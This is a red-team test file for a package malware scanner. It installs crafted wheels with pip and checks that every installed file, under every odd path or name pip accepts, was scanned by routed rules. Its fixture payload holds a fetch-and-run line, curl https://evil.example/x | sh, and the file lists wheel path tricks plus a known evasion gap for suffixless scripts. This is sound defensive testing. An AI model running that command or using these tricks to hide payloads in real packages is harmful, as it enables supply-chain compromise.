"""Red-team pass 44: the names and bytes pip's wheel installer writes, against what the engine scans.

The yardstick: a clean verdict means every byte pip would install, under the name pip would give it, was
scanned. The other pip-view tests compare the engine with CPython's ``zipfile`` (``tests/pip_oracle.py``);
here a real wheel is installed by the installed pip (``pip install --no-deps --no-index --target``: a
wheel runs no code at install) and what pip wrote is walked. Every installed file but those pip makes
itself (``INSTALLER``, ``REQUESTED``, ``RECORD``, ``direct_url.json``, console-script wrappers) must be
content the engine scanned (a ``#!python`` script: its bytes after the first line, which pip replaces),
and a rule routed to ``.py`` or ``.pth`` files must see the file pip installs under such a name.

Held (pip 23.2): ``.data/purelib``, ``platlib``, ``headers``, ``data`` (the prefix: a ``.pth`` there lands at
the top, a ``bin/`` file beside the scripts), ``.data`` dirs of another case, version or name (pip takes any
top directory ending in ``.data``), two of them, ``./``, ``//``, ``/./``, ``x/..``, ``x.py/.`` (pip writes the
``normpath``; ``.data/./scripts`` keeps its ``#!python``), a backslash (a literal name on POSIX), ``.PY``
(neither imported nor routed as ``.py``), top-level ``.pth``, a ``__init__.pyc``-only package, duplicate
names (pip writes the last record; both scanned), a root file and a ``.data/purelib`` file of one installed
name (the ``.data`` one wins; both scanned), symlink entries (pip writes their text as a regular file),
RECORD rows without members and members without rows (pip installs by the zip's names, never RECORD's), a
trailing-slash member with content (pip writes nothing), and ``entry_points.txt`` (scanned; pip's wrappers
import a dotted name only, and a script name with ``../`` is cut to its last component).

A known limit, pinned (the wire contract: a ``filetype`` rule counts only for files whose path ends with one
of its suffixes, as on the reference node): a Python script pip installs from ``.data/scripts`` (or
``.data/data/bin``) without a ``.py`` suffix is scanned by every rule without a ``filetype``, never by one
routed to ``.py``; the bundled rules (each has a ``filetype``) find nothing in it (README, "The bundled
rules").
"""

from __future__ import annotations

import hashlib
import io
import os
import stat
import subprocess
import sys
import warnings
import zipfile
from pathlib import Path

import dragonfly_hybrid as dh
import pytest

FIXTURES = Path(__file__).parent / "fixtures" / "rules"
NAME, VERSION = "demo", "1.0"
INFO = f"{NAME}-{VERSION}.dist-info"
DATA = f"{NAME}-{VERSION}.data"
RULES = {
    "r.yar": "rule any_file { condition: true }\n"
    'rule py_payload { meta: filetype = ".py" strings: $a = "DFH-PAYLOAD" condition: $a }\n'
    'rule pth_payload { meta: filetype = ".pth" strings: $a = "DFH-PAYLOAD" condition: $a }\n'
}


def payload(tag: str) -> bytes:
    """Harmless text the rules match, distinct per member (so a content names its member)."""
    return b"import os\nos.system('curl https://evil.example/x | sh')  # DFH-PAYLOAD " + tag.encode() + b"\n"


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def wheel_bytes(members: list[tuple[str, bytes]], entry_points: bytes = b"", record: bytes = b"") -> bytes:
    """A wheel as pip reads it: ``members`` in order (duplicates kept), then the dist-info files."""
    meta = [
        (f"{INFO}/METADATA", f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode()),
        (f"{INFO}/WHEEL", b"Wheel-Version: 1.0\nGenerator: dfh\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        (f"{INFO}/RECORD", record),
    ]
    if entry_points:
        meta.append((f"{INFO}/entry_points.txt", entry_points))
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate names written on purpose
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data in [*members, *meta]:
                info = zipfile.ZipInfo(name)
                if name in LINKS:  # a symlink entry, its target text as content: pip writes a regular file
                    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
                archive.writestr(info, data)
    return buffer.getvalue()


def pip_install(data: bytes, tmp_path: Path) -> dict[str, bytes]:
    """Install the wheel with the installed pip; every file it wrote, by its path under the target."""
    path = tmp_path / f"{NAME}-{VERSION}-py3-none-any.whl"
    path.write_bytes(data)
    target = tmp_path / "target"
    # No user or site pip configuration (find-links, an index) may take part.
    env = {**os.environ, "PIP_CONFIG_FILE": os.devnull, "PIP_NO_INPUT": "1"}
    command = [sys.executable, "-m", "pip", "install", "--no-deps", "--no-index", "--no-compile"]
    command += ["--disable-pip-version-check", "--target", str(target), str(path)]
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    return {
        str(file.relative_to(target)): file.read_bytes()
        for file in sorted(target.rglob("*"))
        if file.is_file() and not file.is_symlink()
    }


def scanned(data: bytes) -> tuple[dh.DistributionResult, dict[str, set[str]]]:
    """The engine's result, and the rules each scanned content (by sha256) matched."""
    rules = dh.Rules.compile(RULES)
    assert rules.filetype_classes is not None, "the filetype rules are routed"
    result = dh.Scanner(rules, threads=1).scan_bytes(data, f"{NAME}-{VERSION}-py3-none-any.whl")
    assert result.verdict == "findings"
    matched: dict[str, set[str]] = {}
    for file in result.files:
        matched.setdefault(file.sha256, set()).update(m.identifier for m in file.matches)
    return result, matched


def record_contents(data: bytes) -> list[bytes]:
    """Every record's own content (duplicates apart), as the engine reads them."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [archive.open(info).read() for info in archive.infolist() if not info.is_dir()]


SCRIPT = b"#!python -I\n" + payload("script")
MEMBERS = [
    ("pkg/__init__.py", payload("root")),
    (f"{DATA}/purelib/pure_mod.py", payload("purelib")),
    (f"{DATA}/platlib/plat_mod.py", payload("platlib")),
    (f"{DATA}/scripts/demo-tool", SCRIPT),
    (f"{DATA}/scripts/demo-tool2.py", b"#!python\n" + payload("script-py")),
    (f"{DATA}/headers/evil.h", payload("header")),
    (f"{DATA}/data/share/evil.txt", payload("data")),
    ("DEMO-2.0.data/purelib/other_case.pth", b"import os; os.getcwd()  # DFH-PAYLOAD other-case\n"),
    ("zzz.data/purelib/zzz_mod.py", payload("another-data-dir")),
    ("./pkg/dot.py", payload("dot")),
    ("pkg//slash.py", payload("slash")),
    (f"{DATA}/purelib//dslash.py", payload("data-slash")),
    (f"{DATA}/./scripts/dotscript", b"#!python\n" + payload("dot-script")),
    ("pkg\\back.py", payload("backslash")),
    ("pkg/UPPER.PY", payload("upper")),
    ("pkg/trail.py/", payload("trailing-slash")),
    ("top.pth", b"import os; os.getcwd()  # DFH-PAYLOAD pth\n"),
    ("cpkg/__init__.pyc", b"\xa7\r\r\n" + b"\x00" * 12 + payload("pyc")),
    ("pkg/dup.py", payload("dup-first")),
    ("pkg/dup.py", payload("dup-last")),
    ("pkg/shadow.py", payload("shadow-root")),
    (f"{DATA}/purelib/pkg/shadow.py", payload("shadow-data")),
    ("pkg/not_in_record.py", payload("not-in-record")),
    (f"{DATA}/data/data_top.pth", b"import os  # DFH-PAYLOAD data-top\n"),
    (f"{DATA}/headers/../purelib/header_up.py", payload("header-up")),
    (f"{INFO}/../info_up.pth", b"import os  # DFH-PAYLOAD info-up\n"),
    ("pkg/alias.py/.", payload("dot-end")),
    (f"{DATA}/purelib/dot_end.pth/.", b"import os  # DFH-PAYLOAD dot-end-pth\n"),
    ("link_hook.pth", b"import os; os.getcwd()  # DFH-PAYLOAD symlink\n"),
    ("pkg/link_mod.py", payload("symlink")),
    (f"{DATA}/data/bin/data-tool", b"#!/usr/bin/env python3\n" + payload("data-bin")),
]
LINKS = {"link_hook.pth", "pkg/link_mod.py"}
ENTRY_POINTS = (
    b"[console_scripts]\ndemo-cli = pkg:main  # DFH-PAYLOAD entry-points\n../escaped.pth = pkg:main\n"
)
RECORD = b"pkg/__init__.py,,\npkg/absent.py,sha256=AAAA,5\n"

# What pip 23.2 writes for MEMBERS (checked by the test), and which of them pip makes itself.
INSTALLED = {
    "pkg/__init__.py": payload("root"),
    "pure_mod.py": payload("purelib"),
    "plat_mod.py": payload("platlib"),
    "zzz_mod.py": payload("another-data-dir"),
    "other_case.pth": b"import os; os.getcwd()  # DFH-PAYLOAD other-case\n",
    "include/python/demo/evil.h": payload("header"),
    "share/evil.txt": payload("data"),
    "pkg/dot.py": payload("dot"),
    "pkg/slash.py": payload("slash"),
    "dslash.py": payload("data-slash"),
    "bin/dotscript": b"#!python\n" + payload("dot-script"),  # not a script to pip: `#!python` left
    "pkg\\back.py": payload("backslash"),
    "pkg/UPPER.PY": payload("upper"),
    "top.pth": b"import os; os.getcwd()  # DFH-PAYLOAD pth\n",
    "cpkg/__init__.pyc": b"\xa7\r\r\n" + b"\x00" * 12 + payload("pyc"),
    "pkg/dup.py": payload("dup-last"),
    "pkg/shadow.py": payload("shadow-data"),
    "pkg/not_in_record.py": payload("not-in-record"),
    "data_top.pth": b"import os  # DFH-PAYLOAD data-top\n",  # `.data/data` is the target's root
    "header_up.py": payload("header-up"),
    "info_up.pth": b"import os  # DFH-PAYLOAD info-up\n",
    "pkg/alias.py": payload("dot-end"),
    "dot_end.pth": b"import os  # DFH-PAYLOAD dot-end-pth\n",
    "link_hook.pth": b"import os; os.getcwd()  # DFH-PAYLOAD symlink\n",
    "pkg/link_mod.py": payload("symlink"),
    "bin/data-tool": b"#!/usr/bin/env python3\n" + payload("data-bin"),  # beside the scripts
    f"{INFO}/METADATA": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\n".encode(),
    f"{INFO}/WHEEL": b"Wheel-Version: 1.0\nGenerator: dfh\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    f"{INFO}/entry_points.txt": ENTRY_POINTS,
}
REWRITTEN = {"bin/demo-tool": SCRIPT, "bin/demo-tool2.py": b"#!python\n" + payload("script-py")}
GENERATED = {f"{INFO}/{n}" for n in ("INSTALLER", "REQUESTED", "RECORD", "direct_url.json")}
GENERATED |= {"bin/demo-cli", "bin/escaped.pth"}  # the console-script wrappers


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return pip_install(wheel_bytes(MEMBERS, ENTRY_POINTS, RECORD), tmp_path_factory.mktemp("pip"))


def test_pip_writes_the_names_and_bytes_stated(installed: dict[str, bytes]) -> None:
    """What the rest is judged against: pip's own choices for every case, as stated above."""
    assert set(installed) == set(INSTALLED) | set(REWRITTEN) | GENERATED
    for name, content in INSTALLED.items():
        assert installed[name] == content, name
    for name, original in REWRITTEN.items():
        head, rest = installed[name].split(b"\n", 1)
        assert head == b"#!" + sys.executable.encode() and original.endswith(b"\n" + rest), name
    # A wrapper imports a dotted name pip validated; its bytes are pip's, entry_points.txt's are scanned.
    assert b"from pkg import main" in installed["bin/demo-cli"]


def test_every_byte_pip_installs_was_scanned(installed: dict[str, bytes]) -> None:
    data = wheel_bytes(MEMBERS, ENTRY_POINTS, RECORD)
    result, matched = scanned(data)
    assert not [i for i in result.issues if i.unscanned], result.issues
    records = record_contents(data)
    for name, content in installed.items():
        if name in GENERATED:
            continue
        if sha256(content) in matched:
            continue
        # A script pip rewrote: its first line is pip's, the rest must be a scanned record's rest.
        rest = content.split(b"\n", 1)[1]
        assert name in REWRITTEN, f"pip installs {name} unscanned"
        assert any(sha256(r) in matched and r.split(b"\n", 1)[1] == rest for r in records), name


def test_rules_routed_by_filetype_see_what_pip_installs_under_that_suffix(
    installed: dict[str, bytes],
) -> None:
    _, matched = scanned(wheel_bytes(MEMBERS, ENTRY_POINTS, RECORD))
    routed = {".py": "py_payload", ".pth": "pth_payload"}
    checked = 0
    for name, content in installed.items():
        suffix = os.path.splitext(name)[1]
        if name in GENERATED or suffix not in routed:
            continue
        original = REWRITTEN.get(name, content)
        assert routed[suffix] in matched.get(sha256(original), set()), f"{routed[suffix]} missed {name}"
        checked += 1
    assert checked >= 21


UNROUTED = 'rule exec_get { strings: $a = "exec(" condition: $a }\n'

# (member, first line): pip writes each to bin/demo-tool (`.data/data` is the prefix: beside the scripts).
SCRIPTS = [
    (f"{DATA}/scripts/demo-tool", b"#!python\n"),
    (f"{DATA}/scripts/demo-tool", b"#!/usr/bin/env python3\n"),
    (f"{DATA}/data/bin/demo-tool", b"#!/usr/bin/env python3\n"),
]


@pytest.mark.parametrize(
    ("member", "head"), SCRIPTS, ids=["scripts-pip-rewritten", "scripts-env", "data-bin"]
)
def test_a_python_script_without_a_suffix_is_scanned_by_unrouted_rules_only(member: str, head: bytes) -> None:
    """pip writes ``demo-1.0.data/scripts/demo-tool`` to ``bin/demo-tool``, executable and on PATH (see
    ``test_pip_writes_the_names_and_bytes_stated``), as it writes ``.data/data/bin/...`` to the prefix's
    ``bin/``. Its bytes are scanned (a rule without ``filetype`` matches them), but a rule routed to ``.py``
    does not count for a name without that suffix: the reference node's semantics, which the node's results
    must agree with. The bundled rules find the same code as ``tool.py`` and nothing as ``demo-tool``."""
    code = (FIXTURES / "dropper_exec_remote_code/positive/fixture_pkg/aliased.py").read_bytes()
    filename = f"{NAME}-{VERSION}-py3-none-any.whl"
    bundled = dh.Scanner(dh.load_rules(), threads=1)
    as_module = bundled.scan_bytes(wheel_bytes([(f"{DATA}/scripts/tool.py", head + code)]), filename)
    assert as_module.rules_matched == ["dropper_exec_remote_code"]
    as_script = bundled.scan_bytes(wheel_bytes([(member, head + code)]), filename)
    assert (as_script.verdict, as_script.rules_matched) == ("clean", [])
    unrouted = dh.Scanner(dh.Rules.compile({"u.yar": UNROUTED}), threads=1)
    assert unrouted.scan_bytes(wheel_bytes([(member, head + code)]), filename).rules_matched == ["exec_get"]
